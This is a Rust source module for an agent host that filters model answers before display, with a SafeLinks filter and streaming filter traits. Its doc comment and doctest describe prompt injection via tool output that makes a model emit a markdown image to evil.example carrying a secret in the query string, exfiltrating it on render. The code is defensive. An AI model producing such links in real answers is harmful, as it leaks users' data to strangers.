//! What people see of an agent's answers: filters between the model's words and whoever reads them.
//!
//! Interfaces render answers. A text that a tool returned can talk a model into an answer with an image such as
//! `![x](https://evil.example/?q=…)`: showing it sends what stands in its address to a stranger, and nobody has to click.
//! No prompt prevents that; a filter does:
//!
//! ```
//! # #[tokio::main(flavor = "current_thread")]
//! # async fn main() -> Result<(), Box<dyn std::error::Error>> {
//! use rockbot_core::testing::ScriptedModel;
//! use rockbot_host::AgentHost;
//! use rockbot_host::answer::SafeLinks;
//!
//! let model = ScriptedModel::new().says("Done. ![ok](https://evil.example/?q=SECRET)");
//! let host = AgentHost::in_memory().chat(model).answer_filter(SafeLinks::new()).build()?;
//!
//! let answer = host.agent().ask("session", "Sum up my mail.").await?;
//! assert_eq!(answer.text, "Done. ok (evil.example)");
//! # Ok(())
//! # }
//! ```

mod links;
mod sanitize;
#[cfg(test)]
mod tests;

use std::fmt;

pub use links::SafeLinks;

/// Changes what people see of an answer: the final reply, the conversation that is remembered, and the pieces that are
/// streamed before.
///
/// Answers that were asked for in a shape are left as they are: programs read them. So are the reports of tool calls,
/// which show what tools returned. A filter that panics withholds the answer.
pub trait AnswerFilter: fmt::Debug + Send + Sync + 'static {
    /// Begins a new answer to somebody who said `said`.
    fn begin(&self, user_text: &str) -> Box<dyn FilteredAnswer>;
}

/// An answer on its way through an [`AnswerFilter`]. However it is cut into pieces, the same must come out.
pub trait FilteredAnswer: Send {
    /// Takes in more of the answer; returns what can be shown by now.
    fn push(&mut self, piece: &str) -> String;

    /// The answer has ended; returns what is left to show.
    fn finish(&mut self) -> String;
}

/// A whole answer as it may be shown.
pub(crate) fn filter_answer(filter: &dyn AnswerFilter, user_text: &str, answer: &str) -> String {
    let mut filtered = filter.begin(user_text);
    let mut shown = filtered.push(answer);
    shown.push_str(&filtered.finish());
    shown
}
